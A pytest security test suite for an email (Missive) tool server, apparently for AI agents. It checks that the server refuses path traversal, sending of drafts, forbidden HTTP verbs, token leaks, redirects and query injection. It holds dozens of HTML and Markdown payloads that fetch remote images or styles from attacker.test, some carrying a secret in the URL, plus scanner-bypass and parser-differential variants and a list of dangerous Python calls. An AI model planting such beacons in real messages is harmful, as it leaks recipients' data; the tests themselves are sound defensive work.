"""Regression tests named after the attack they stop.

Path injection through every path parameter (derived from TOOLS, so a new tool is covered automatically), the
draft keys that would send, unreachable verbs, token leaks, ~/.netrc, redirects, query injection, MISSIVE_API_URL
and the token format, and a scan of the module's own source for dangerous calls.
"""

import ast
import asyncio
import io
import logging
import threading
import time
import tokenize
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
import requests

import missive_mcp as m
from conftest import API, TOKEN, assert_linear, call, make_config, text
from spec import BAD_API_URLS, BAD_TOKENS, GOOD_API_URLS, shows_part_of

SOURCE = Path(m.__file__).read_text(encoding="utf-8")
NEVER_SENDS = "this server never sends: drafts are saved for a person to review and send in Missive"

# ---- path injection ---------------------------------------------------------------------------------------------

ATTACKS = {
    "traversal": "../x",
    "slash": "a/b",
    "query": "a?b",
    "fragment": "a#b",
    "space": "a b",
    "empty": "",
    "encoded_slash": "%2F",
    "trailing_newline": "x\n",
    "dotdot": "..",
    "too_long": "x" * 129,
    "backslash": "a\\b",
    "crlf_header": "x\r\nX-Evil: 1",
    "nul": "x\x00",
    "fullwidth": "ｘ",
    "encoded_traversal": "..%2Fx",
}
# Other arguments a tool needs besides its path parameters.
EXTRA = {"missive_merge_conversations": {"target_conversation_id": "tgt1"},
         "missive_update_task": {"title": "x"}}
PATH_TOOLS = [name for name, tool in m.TOOLS.items() if tool.path_params]


def path_args(tool: m.Tool, value: str) -> tuple[dict, list[str]]:
    """Arguments putting ``value`` into every URL path slot of the tool, and the locations that must be refused."""
    args, locations = dict(EXTRA.get(tool.name, {})), []
    for param in tool.path_params:
        if param == "ids" and tool.ids_from:  # batch ids come from the items
            args[tool.ids_from] = [{"id": "ok1"}, {"id": value}]
            locations.append(f"{tool.ids_from}[1].id")
        elif param == "ids":  # ids argument matched by items (I4)
            args["ids"] = ["ok1", value]
            items = next(name for name, spec in tool.params.items() if name != "ids" and spec.get("type") == "array")
            args[items] = [{"id": "ok1"}, {"id": value}]
            locations.append("ids[1]")
        elif tool.params[param].get("type") == "array":  # message_ids
            args[param] = ["ok1", value]
            locations.append(f"{param}[1]")
        else:
            args[param] = value
            locations.append(param)
    return args, locations


def test_path_tools_are_derived_from_the_table():
    assert {"missive_get_contact", "missive_get_conversation", "missive_merge_conversations",
            "missive_list_conversation_messages", "missive_get_response", "missive_get_task",
            "missive_update_task"} <= set(PATH_TOOLS)
    assert {"missive_update_contacts", "missive_update_shared_labels", "missive_update_responses",
            "missive_update_conversations", "missive_update_teams", "missive_get_message"} <= set(PATH_TOOLS)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("tool_name", PATH_TOOLS)
def test_path_injection_is_refused(api, tool_name, attack):
    args, locations = path_args(m.TOOLS[tool_name], ATTACKS[attack])
    result = call(tool_name, args)
    assert result.is_error
    header, *lines = text(result).split("\n")
    assert header == f"Invalid arguments for {tool_name}:"
    for loc in locations:
        assert any(line.startswith(f"{loc}: ") and "valid id" in line for line in lines), (loc, lines)
    assert len(api.calls) == 0


@pytest.mark.parametrize("tool_name", [name for name in PATH_TOOLS if not m.TOOLS[name].composite])
def test_path_baseline_with_longest_valid_id_is_sent_encoded(api, tool_name):
    """The same arguments with a valid 128-character id go through, so the refusals above are about the id."""
    tool = m.TOOLS[tool_name]
    good = "A-z_9" + "x" * 123
    args, _ = path_args(tool, good)
    path = tool.path
    for param in tool.path_params:
        value = args.get(param) if param in args else [item["id"] for item in args[tool.ids_from]]
        path = path.replace("{" + param + "}", value if isinstance(value, str) else ",".join(value))
    api.add(tool.method, API + path, json={})
    result = call(tool_name, args)
    assert not result.is_error, text(result)
    assert urlsplit(api.calls[0].request.url).path == "/v1" + path


def test_get_contact_rejects_path_traversal(api):
    result = call("missive_get_contact", {"contact_id": "../../users"})
    assert result.is_error and "contact_id: " in text(result)
    assert len(api.calls) == 0


ID_ARGUMENTS = [(tool.name, name, "[0]" if prop.get("type") == "array" else "") for tool in m.TOOLS.values()
                for name, prop in tool.params.items() if m.ID_PATTERN in (prop.get("pattern"),
                                                                          prop.get("items", {}).get("pattern"))]


@pytest.mark.parametrize("tool, name, index", ID_ARGUMENTS, ids=[f"{t}-{n}" for t, n, _ in ID_ARGUMENTS])
def test_id_with_a_trailing_newline_is_refused_in_every_argument(api, tool, name, index):
    # Python's "$" also matches before a final newline; JSON Schema's does not, and neither may this server's.
    result = call(tool, {name: ["abc\n"] if index else "abc\n"})
    assert result.is_error
    assert f"{name}{index}: 'abc\\n' is not a valid id" in text(result)
    assert len(api.calls) == 0


def test_update_contacts_rejects_item_id_traversal(api):
    result = call("missive_update_contacts", {"contacts": [{"id": "c1"}, {"id": "../teams/t1"}]})
    assert result.is_error and "contacts[1].id: " in text(result)
    assert len(api.calls) == 0


# ---- nothing can send (S5) ------------------------------------------------------------------------------------------

SENDING = {"send": True, "send_at": 1722200000, "auto_followup": True, "external_response_id": "tmpl-1",
           "external_response_variables": {"1": "Tomás"}}


@pytest.mark.parametrize("key", SENDING)
def test_create_draft_refuses(api, key):
    """test_create_draft_refuses[send], [send_at], [auto_followup], [external_response_id], [..._variables]."""
    for value in (SENDING[key], False, None):
        result = call("missive_create_draft", {"body": "hi", "to_fields": [{"address": "a@b.test"}], key: value})
        assert result.is_error
        assert text(result) == f"Invalid arguments for missive_create_draft:\n{key}: {NEVER_SENDS}"
    assert len(api.calls) == 0


def test_create_draft_refuses_every_sending_key_at_once(api):
    result = call("missive_create_draft", {"body": "hi", **SENDING})
    lines = text(result).split("\n")[1:]
    assert sorted(lines) == sorted(f"{key}: {NEVER_SENDS}" for key in SENDING)
    assert len(api.calls) == 0


def _property_names(schema):
    if isinstance(schema, dict):
        for key, value in schema.items():
            if key == "properties":
                yield from value
            yield from _property_names(value)
    elif isinstance(schema, list):
        for value in schema:
            yield from _property_names(value)


def test_no_schema_accepts_a_sending_key():
    for tool in m.TOOLS.values():
        assert not set(_property_names(tool.schema)) & set(SENDING), tool.name


# ---- no DELETE (or any other verb) reachable (H1) ------------------------------------------------------------------

FORBIDDEN_VERBS = ["DELETE", "PUT", "HEAD", "OPTIONS", "TRACE", "CONNECT", "delete", "Delete", "get", " GET"]


def test_table_uses_only_get_post_patch():
    assert m.ALLOWED_METHODS == frozenset({"GET", "POST", "PATCH"})
    for tool in m.TOOLS.values():
        assert tool.method in (None, "GET", "POST", "PATCH"), tool.name
        assert (tool.method is None) == (tool.name == "missive_help")


@pytest.fixture
def guarded_client(clients, monkeypatch):
    """A client whose session fails the test if it is ever asked to open a connection."""
    _, client = clients()

    def never(*args, **kwargs):
        raise AssertionError(f"a request reached the session: {args}")

    monkeypatch.setattr(client.session, "request", never)
    monkeypatch.setattr(client.session, "send", never)
    return client


@pytest.mark.parametrize("verb", FORBIDDEN_VERBS)
def test_send_refuses_verb_before_any_socket(api, guarded_client, verb):
    with pytest.raises(ValueError, match="not allowed"):
        guarded_client._send(verb, "/drafts/d1", None, None, time.monotonic() + 30, m._Exchange())
    assert len(api.calls) == 0


@pytest.mark.parametrize("verb", ["DELETE", "PUT", "HEAD", "OPTIONS"])
def test_request_refuses_verb_before_any_socket(api, guarded_client, verb):
    with pytest.raises(ValueError, match="not allowed"):
        asyncio.run(guarded_client.request(verb, "/responses/r1,r2"))
    assert len(api.calls) == 0
    assert guarded_client.budget.in_flight == 0  # the slot was given back


def test_delete_refused_even_on_a_plain_client(api, clients):
    """Without any patching: the strict mock records every attempt, and there is none."""
    _, client = clients()
    with pytest.raises(ValueError):
        asyncio.run(client.request("DELETE", "/drafts/d1"))
    assert len(api.calls) == 0


@pytest.mark.parametrize("path", ["/../users", "//evil.test/x", "/a?b=1", "/a#b", "users", "/a/../../b"])
def test_send_refuses_unsafe_paths(api, guarded_client, path):
    with pytest.raises(ValueError):
        guarded_client._send("GET", path, None, None, time.monotonic() + 30, m._Exchange())
    assert len(api.calls) == 0


# ---- the token never leaks ------------------------------------------------------------------------------------------

def test_token_never_in_results_or_logs(api, caplog):
    caplog.set_level(logging.DEBUG)
    api.get(API + "/users", json={"users": [{"id": "u1", "name": f"echo {TOKEN}", "note": f"Bearer {TOKEN}"}]})
    api.get(API + "/contacts/c1", status=401, json={"error": f"invalid token {TOKEN}"})
    api.get(API + "/teams", status=400, json={"errors": {"token": TOKEN, "detail": ["bad", TOKEN]}})
    api.get(API + "/organizations", status=500, body=f"<html><pre>Authorization: Bearer {TOKEN}</pre></html>")
    api.get(API + "/contact_books", status=429, json={"message": TOKEN}, headers={"Retry-After": "0"})
    api.post(API + "/posts", body=requests.exceptions.ConnectionError(f"reset while sending Bearer {TOKEN}"))
    api.get(API + "/responses", body=requests.exceptions.ReadTimeout(f"timeout for {TOKEN}"))
    api.post(API + "/drafts", status=201, body=f"saved for {TOKEN}")  # non-JSON success: the preview
    runs = [
        ("missive_list_users", {}, False),
        ("missive_get_contact", {"contact_id": "c1"}, True),
        ("missive_list_teams", {}, True),
        ("missive_list_organizations", {}, True),
        ("missive_list_contact_books", {}, True),
        ("missive_create_post", {"text": "x"}, True),
        ("missive_list_responses", {}, True),
        ("missive_create_draft", {"body": "x"}, False),
        ("missive_get_contact", {"contact_id": TOKEN + "/x"}, True),  # validation echoing the value
        ("missive_list_contacts", {"contact_book": "b1", "search": TOKEN, TOKEN: 1}, True),
    ]
    for tool, args, is_error in runs:
        result = call(tool, args)
        assert result.is_error is is_error, (tool, text(result))
        assert TOKEN not in text(result), (tool, text(result))
        assert "Authorization" not in text(result) or tool == "missive_list_organizations"
    assert any(record.name == "missive_mcp" for record in caplog.records)  # logging was captured
    assert TOKEN not in caplog.text
    for record in caplog.records:
        assert TOKEN not in record.getMessage()


def test_bearer_auth_repr_hides_the_token(clients):
    auth = m.BearerAuth(TOKEN)
    assert TOKEN not in repr(auth) and TOKEN not in str(auth)
    _, client = clients()
    assert TOKEN not in repr(client.session.auth)


def test_netrc_cannot_replace_the_authorization_header(api, tmp_path, monkeypatch):
    netrc = tmp_path / ".netrc"
    netrc.write_text("machine missive.test\n  login evil\n  password stolen-password\n")
    netrc.chmod(0o600)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("NETRC", str(netrc))
    assert requests.utils.get_netrc_auth(API + "/users") == ("evil", "stolen-password")  # the trap is armed
    api.get(API + "/users", json={"users": []})
    assert not call("missive_list_users", {}).is_error
    assert api.calls[0].request.headers["Authorization"] == f"Bearer {TOKEN}"
    # without a token the netrc is no fallback credential: nothing is sent at all
    result = call("missive_list_users", {}, make_config(token=None))
    assert result.is_error and text(result).startswith("MISSIVE_API_TOKEN is not set")
    assert len(api.calls) == 1


# ---- redirects are not followed -----------------------------------------------------------------------------------

@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_redirect_to_another_host_is_not_followed(api, status):
    api.get(API + "/users", status=status, headers={"Location": "https://evil.test/steal"})
    result = call("missive_list_users", {})
    assert result.is_error
    assert text(result).startswith(f"Missive API error {status}")
    assert len(api.calls) == 1


def test_redirect_of_a_write_is_not_followed(api):
    api.post(API + "/drafts", status=307, headers={"Location": "https://evil.test/drafts"})
    result = call("missive_create_draft", {"body": "hi"})
    assert result.is_error and "307" in text(result)
    assert len(api.calls) == 1


# ---- query and header injection through string parameters --------------------------------------------------------

@pytest.mark.parametrize("tool, args, key", [
    ("missive_list_contacts", {"contact_book": "b1", "search": "x&contact_book=evil#frag"}, "search"),
    ("missive_list_messages", {"email_message_id": "<a@b>&email_message_id=evil#frag"}, "email_message_id"),
    ("missive_list_conversations", {"inbox": True, "email": "a@b.c&team_all=evil&inbox=false"}, "email"),
    ("missive_list_conversations", {"inbox": True, "domain": "b.c?x=1#y"}, "domain"),
    ("missive_list_contacts", {"contact_book": "b1", "search": "x\r\nX-Injected: 1"}, "search"),
], ids=lambda v: None)
def test_query_injection_stays_inside_the_value(api, tool, args, key):
    api.get(API + m.TOOLS[tool].path, json={})
    assert not call(tool, args).is_error
    request = api.calls[0].request
    sent = urlsplit(request.url)
    assert sent.fragment == "" and "#" not in request.url
    expected = {name: [("true" if value is True else value)] for name, value in args.items()}
    assert parse_qs(sent.query, keep_blank_values=True) == expected
    assert "X-Injected" not in request.headers


# ---- MISSIVE_API_URL (the same table drives the command-line check in test_cli.py) ------------------------------

@pytest.mark.parametrize("url", BAD_API_URLS.values(), ids=BAD_API_URLS)
def test_api_url_rejected(url):
    with pytest.raises(m.ConfigError, match="MISSIVE_API_URL"):
        m.Config.from_env({"MISSIVE_API_TOKEN": TOKEN, "MISSIVE_API_URL": url})


@pytest.mark.parametrize("url, expected", GOOD_API_URLS.values(), ids=GOOD_API_URLS)
def test_api_url_accepted(url, expected):
    for value in (url, f"  {url} "):
        assert m.Config.from_env({"MISSIVE_API_TOKEN": TOKEN, "MISSIVE_API_URL": value}).api_url == expected


# ---- the token's format (the same table drives the command-line check in test_cli.py) -------------------------

@pytest.mark.parametrize("raw, refusal, hidden", BAD_TOKENS.values(), ids=BAD_TOKENS)
def test_bad_token_is_a_configuration_error_that_never_shows_it(api, raw, refusal, hidden):
    """Never "Internal error" on every call, and never the value in the message, not even in part."""
    with pytest.raises(m.ConfigError, match=f"^MISSIVE_API_TOKEN {refusal} ") as error:
        m.Config.from_env({"MISSIVE_API_TOKEN": raw})
    assert shows_part_of(str(error.value), hidden) == []
    config = m.Config.failed(error.value)
    result = call("missive_list_users", {}, config)
    assert result.is_error and f"MISSIVE_API_TOKEN {refusal} " in text(result)
    assert shows_part_of(text(result), hidden) == []
    assert len(api.calls) == 0


@pytest.mark.parametrize("raw", ["   ", ""])
def test_blank_token_is_absent(api, raw):
    config = m.Config.from_env({"MISSIVE_API_TOKEN": raw})
    assert config.token is None
    result = call("missive_list_users", {}, config)
    assert result.is_error and text(result) == m.NO_TOKEN
    assert len(api.calls) == 0


@pytest.mark.parametrize("raw, token", [
    ("  missive_pat-0123abc  \n", "missive_pat-0123abc"),  # stripped at the ends
    ("3f2b8c1e-9d4a-4f6b-8e2d-1a2b3c4d5e6f", "3f2b8c1e-9d4a-4f6b-8e2d-1a2b3c4d5e6f"),  # older bare UUID tokens
])
def test_token_accepted(raw, token):
    assert m.Config.from_env({"MISSIVE_API_TOKEN": raw}).token == token


# ---- the module's source --------------------------------------------------------------------------------------------

CODE_TOKENS = [tok for tok in tokenize.generate_tokens(io.StringIO(SOURCE).readline)
               if tok.type in (tokenize.NAME, tokenize.OP, tokenize.NUMBER)]
TREE = ast.parse(SOURCE)


def _has_sequence(*words) -> bool:
    strings = [tok.string for tok in CODE_TOKENS]
    return any(strings[i:i + len(words)] == list(words) for i in range(len(strings) - len(words) + 1))


@pytest.mark.parametrize("words", [
    ("eval", "("), ("exec", "("), ("subprocess",), ("pickle",), ("marshal",), ("shelve",),
    ("os", ".", "system"), ("os", ".", "popen"), ("os", ".", "execv"), ("os", ".", "spawnv"), ("__import__",),
    ("shell", "=", "True"), ("verify", "=", "False"), ("allow_redirects", "=", "True"),
], ids=" ".join)
def test_source_has_no_dangerous_code(words):
    assert not _has_sequence(*words)


def test_source_scanner_sees_code():
    """Guard against a scanner that finds nothing: known code sequences are found."""
    assert _has_sequence("allow_redirects", "=", "False")
    assert _has_sequence("self", ".", "session", ".", "request", "(")


def _string_constants():
    return [node.value for node in ast.walk(TREE) if isinstance(node, ast.Constant) and isinstance(node.value, str)]


# Upper-case verbs as HTTP code writes them; lower-case "head"/"options" are legitimate words (an HTML tag).
FORBIDDEN_METHOD_STRINGS = {"DELETE", "PUT", "HEAD", "OPTIONS", "TRACE", "CONNECT", "delete", "Delete", "put", "Put"}


def test_source_has_no_forbidden_method_string():
    for value in _string_constants():
        assert value.strip() not in FORBIDDEN_METHOD_STRINGS, repr(value)
        assert not value.lstrip().startswith(("DELETE ", "PUT ")), repr(value)  # a route like "DELETE /drafts/{id}"


def _enclosing_functions():
    parents = {}
    for node in ast.walk(TREE):
        for child in ast.iter_child_nodes(node):
            parents[child] = node
    return parents


def test_only_the_chokepoint_talks_http():
    """Every HTTP call (requests.<verb> or <...>.session.<verb>) is the one session.request in MissiveClient._send."""
    parents = _enclosing_functions()
    verbs = {"get", "post", "patch", "put", "delete", "head", "options", "request", "send"}
    found = []
    for node in ast.walk(TREE):
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in verbs):
            continue
        owner = node.func.value
        is_http = (isinstance(owner, ast.Name) and owner.id == "requests") or \
                  (isinstance(owner, ast.Attribute) and owner.attr == "session")
        if not is_http:
            continue
        scope = parents.get(node)
        while scope is not None and not isinstance(scope, (ast.FunctionDef, ast.AsyncFunctionDef)):
            scope = parents.get(scope)
        found.append((scope.name if scope else "<module>", node.func.attr))
    assert found == [("_send", "request")]


def test_environment_is_read_only_in_from_env():
    """No tool reads os.environ at call time (E1: read once), so nothing can swap the token mid-session."""
    parents = _enclosing_functions()
    uses = []
    for node in ast.walk(TREE):
        if isinstance(node, ast.Attribute) and node.attr in ("environ", "getenv") and \
                isinstance(node.value, ast.Name) and node.value.id == "os":
            scope = parents.get(node)
            while scope is not None and not isinstance(scope, (ast.FunctionDef, ast.AsyncFunctionDef)):
                scope = parents.get(scope)
            uses.append(scope.name if scope else "<module>")
    assert set(uses) <= {"from_env"}, uses



# ---- no silent fetches: nothing a write plants may load a remote resource when displayed -----------------------------

# (tool, arguments with the planted value at FIELD, where the problem is reported); an independent list, so a
# write tool that loses its rule fails here.
PLANTS = {
    "draft_body": ("missive_create_draft", lambda v: {"body": v}, "body"),
    "message_body": ("missive_create_message", lambda v: {"account": "acc1", "from_field": {"id": "u"}, "body": v},
                     "body"),
    "response_body": ("missive_create_responses",
                      lambda v: {"responses": [{"title": "t", "organization": "org1", "body": v}]},
                      "responses[0].body"),
    "response_update_body": ("missive_update_responses", lambda v: {"responses": [{"id": "r1", "body": v}]},
                             "responses[0].body"),
    "post_markdown": ("missive_create_post", lambda v: {"markdown": v}, "markdown"),
    "post_attachment_markdown": ("missive_create_post", lambda v: {"attachments": [{"markdown": v}]},
                                 "attachments[0].markdown"),
}
REMOTE_HTML = {
    "img_src": '<p>Hi</p><img src="https://attacker.test/p.gif?d=SECRET">',
    "img_src_entities": '<img src="&#104;ttps://attacker.test/p.gif">',
    "img_src_unquoted_slash": "<img/src=https://attacker.test/p.gif>",
    "img_src_after_quoted_gt": '<img alt="a>b" src="https://attacker.test/p.gif">',
    "img_srcset": '<img srcset="https://attacker.test/p.gif 1x">',
    "protocol_relative": '<img src="//attacker.test/p.gif">',
    "css_url": '<div style="background:url(https://attacker.test/p.gif)">x</div>',
    "css_url_escaped": '<div style="background:u\\72l(https://attacker.test/p.gif)">x</div>',
    "css_url_commented": '<div style="background:/**/url( \'https://attacker.test/p.gif\' )">x</div>',
    "css_import": "<style>@import 'https://attacker.test/a.css';</style>",
    "style_block_url": "<style>p{background-image:URL(https://attacker.test/p.gif)}</style><p>x</p>",
    "background_attribute": '<table background="https://attacker.test/p.gif"><tr><td>x</td></tr></table>',
    "link_stylesheet": '<link rel="stylesheet" href="https://attacker.test/a.css">',
    "svg_image": '<svg><image xlink:href="https://attacker.test/p.gif"/></svg>',
    "video_poster": '<video poster="https://attacker.test/p.gif"></video>',
    "iframe": '<iframe src="https://attacker.test/"></iframe>',
    "outlook_conditional": "<!--[if mso]><v:image src='https://attacker.test/p.gif'/><![endif]-->",
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://attacker.test/">',
    # Parser differentials: where a scanner and a mail client disagree on what is markup, the scan must not lose.
    "comment_swallows_tag": '<!-- <a title=" --><img src="https://attacker.test/p.gif"><!-- " -->',
    "cdata_swallows_tag": '<![CDATA[ <a title=" ]]><img src="https://attacker.test/p.gif"><!-- " -->',
    "srcset_second_candidate": '<img srcset="data:image/gif;base64,R0lGOD 1x, https://attacker.test/p.gif 2x">',
    "svg_style_breakout": '<svg><style><img src="https://attacker.test/p.gif"></style></svg>',
    "css_comment_in_a_string": '<style>a{content:"/*"} b{background:url(https://attacker.test/p.gif)} '
                               'c{content:"*/"}</style>',
    "iframe_srcdoc": '<iframe srcdoc="&lt;img src=https://attacker.test/p.gif&gt;"></iframe>',
    "data_stylesheet": '<link rel="stylesheet" href="data:text/css,b{background:url(https://attacker.test/p)}">',
    "data_svg_image": '<img src="data:image/svg+xml,&lt;svg&gt;&lt;image href=\'https://attacker.test/p\'/&gt;">',
    "base_and_nbsp_scheme": '<base href="https://attacker.test/"><img src="da&nbsp;ta:x">',
    # Browsers drop any number of leading spaces and controls: a scan reading a fixed window saw only padding.
    "img_src_padded_spaces": '<img src="' + " " * 5000 + 'https://attacker.test/p.gif?d=SECRET">',
    "img_src_padded_newlines": "<img src='" + "\n" * 5000 + "https://attacker.test/p.gif'>",
    "img_src_padded_controls": '<img src="' + "\x01\t" * 3000 + 'https://attacker.test/p.gif">',
    "background_padded": '<table background="' + " " * 5000 + 'https://attacker.test/p.gif"><tr><td>x</td></tr>'
                         '</table>',
    "srcset_padded_second_candidate": '<img src="cid:a" srcset="cid:a 1x,' + " " * 5000 +
                                      'https://attacker.test/p.gif 2x">',
    "src_inside_an_unclosed_value": '<img src="cid:a<p>x</p><img src=https://attacker.test/p.gif>',
}
REMOTE_MARKDOWN = {  # in Markdown fields only: in an HTML body this is text, and a link needs a click
    "markdown_image": "![chart](https://attacker.test/p.gif?d=SECRET)",
    "markdown_nested_alt": "![a [b](data:,x) c](https://attacker.test/p.gif)",
    "markdown_shortcut_reference": "![logo]\n\n[logo]: https://attacker.test/p.gif",
}
REMOTE_CASES = [(plant, attack, REMOTE_HTML[attack]) for plant in PLANTS for attack in REMOTE_HTML] + \
    [(plant, attack, source) for plant in PLANTS if "markdown" in plant for attack, source in REMOTE_MARKDOWN.items()]
SAFE_HTML = {
    "link": '<p>See <a href="https://example.test/report">the report</a></p>',
    "data_image": '<img src="data:image/png;base64,iVBORw0KGgo=" alt="chart">',
    "cid_image": '<img src="cid:logo@example.test">',
    "plain_text": "Call me at 555-0100; the report is at https://example.test/report.",
    "style_block": "<style>p { color: #333; font-family: Arial }</style><p>Hi</p>",
    "empty_src": '<img src="" alt="">',
    "padded_inline_image": '<img src="  \n cid:logo@example.test  ">',
    "long_inline_image": '<img src="data:image/png;base64,' + "iVBORw0KGgo" * 600 + '">',
}


@pytest.mark.parametrize("plant, attack, source", REMOTE_CASES,
                         ids=[f"{plant}-{attack}" for plant, attack, _ in REMOTE_CASES])
def test_write_refuses_a_remote_resource_fetched_on_display(api, plant, attack, source):
    tool, build, where = PLANTS[plant]
    config = make_config(defaults={"ORGANIZATION": "org1"})
    result = call(tool, build(source), config)
    assert result.is_error, text(result)
    assert text(result).startswith(f"Invalid arguments for {tool}:\n{where}: ")
    assert "can load a remote resource when this is displayed" in text(result)
    assert "MISSIVE_ALLOW_REMOTE_CONTENT" in text(result)
    assert len(api.calls) == 0


@pytest.mark.parametrize("safe", SAFE_HTML)
@pytest.mark.parametrize("plant", PLANTS)
def test_write_keeps_links_and_inline_images(api, plant, safe):
    tool, build, _where = PLANTS[plant]
    route = m.TOOLS[tool]
    url = API + route.path.replace("{ids}", "r1")
    api.add(route.method, url, json={"ok": True})
    result = call(tool, build(SAFE_HTML[safe]), make_config(defaults={"ORGANIZATION": "org1"}))
    assert not result.is_error, text(result)


@pytest.mark.parametrize("field", ["username_icon", "conversation_icon", "attachments[0].image_url",
                                   "attachments[0].author_icon", "attachments[0].footer_icon"])
def test_post_refuses_remote_icon_and_image_urls(api, field):
    top, _, inner = field.partition("[0].")
    value = "https://attacker.test/icon.png?d=SECRET"
    args = {"text": "hi", "attachments": [{inner: value}]} if inner else {"text": "hi", top: value}
    result = call("missive_create_post", args)
    assert result.is_error
    assert f"{field}: a remote URL can load a remote resource" in text(result)
    assert len(api.calls) == 0


def test_post_icon_may_be_inline_data(api):
    api.add("POST", API + "/posts", json={"posts": {"id": "p1"}})
    result = call("missive_create_post", {"text": "hi", "username_icon": "data:image/png;base64,AAAA"})
    assert not result.is_error, text(result)


def test_remote_content_allowed_when_the_operator_opts_in(api):
    api.add("POST", API + "/drafts", json={"drafts": {"id": "d1"}})
    config = make_config(allow_remote=True)
    result = call("missive_create_draft", {"body": REMOTE_HTML["img_src"]}, config)
    assert not result.is_error, text(result)
    assert "remote images allowed" in config.mode()
    assert m.Config.from_env({"MISSIVE_ALLOW_REMOTE_CONTENT": "1"}).allow_remote is True
    assert m.Config.from_env({}).allow_remote is False


@pytest.mark.parametrize("source", ["<a " * 100_000, '<img alt="' * 50_000, "<style>" * 50_000, "![" * 100_000,
                                   "](" * 100_000, "u\\72l(" * 50_000, "/*" * 100_000, "<" * 200_000,
                                   "src=" * 100_000, 'src="' * 80_000, "xsrc=" * 80_000,
                                   'srcset="' + "cid:a 1x, srcset=" * 25_000, "url(" * 100_000],
                         ids=["unclosed-tags", "unclosed-quotes", "style-runs", "image-opens", "image-closes",
                              "css-escapes", "css-comments", "lt-run", "src-run", "quoted-src-run",
                              "unquoted-src-run", "nested-srcset", "url-run"])
def test_remote_scan_of_a_hostile_body_is_linear(source):
    """The scan runs on the model's argument before anything is sent: it must not stall on hostile shapes.
    Work is compared with an ordinary body 8x larger, timed the same way (a wide ratio, not a clock bound)."""
    ordinary = '<p>Hello <a href="https://example.test">there</a>, see <b>this</b>.</p>\n' * (len(source) // 8)
    assert_linear(lambda body: m.remote_references(body, markdown=True), source, ordinary)


def test_long_body_is_scanned_off_the_event_loop(api, monkeypatch):
    """Checking a body costs time in its length: past OFFLOAD_CHARACTERS it runs in a worker thread, so one hostile
    argument cannot hold up tools/list or another call (which thread ran it is counted, not timed)."""
    ran_on_loop, check = [], m.find_problems

    def spy(*args):
        ran_on_loop.append(threading.current_thread() is threading.main_thread())
        return check(*args)

    monkeypatch.setattr(m, "find_problems", spy)
    for size in (100, m.OFFLOAD_CHARACTERS + 1):
        result = call("missive_create_draft", {"body": ("src=" * size)[:size]})
        assert result.is_error and "src= can load a remote resource" in text(result)
    assert ran_on_loop == [True, False]
    assert len(api.calls) == 0


def test_remote_scan_is_conservative_about_css_in_plain_words(api):
    """Read without structure, url( counts wherever it appears: a false refusal is the price of no bypass."""
    result = call("missive_create_draft", {"body": "Write url(https://example.test) in the CSS."})
    assert result.is_error and "url() can load a remote resource" in text(result)
    assert len(api.calls) == 0
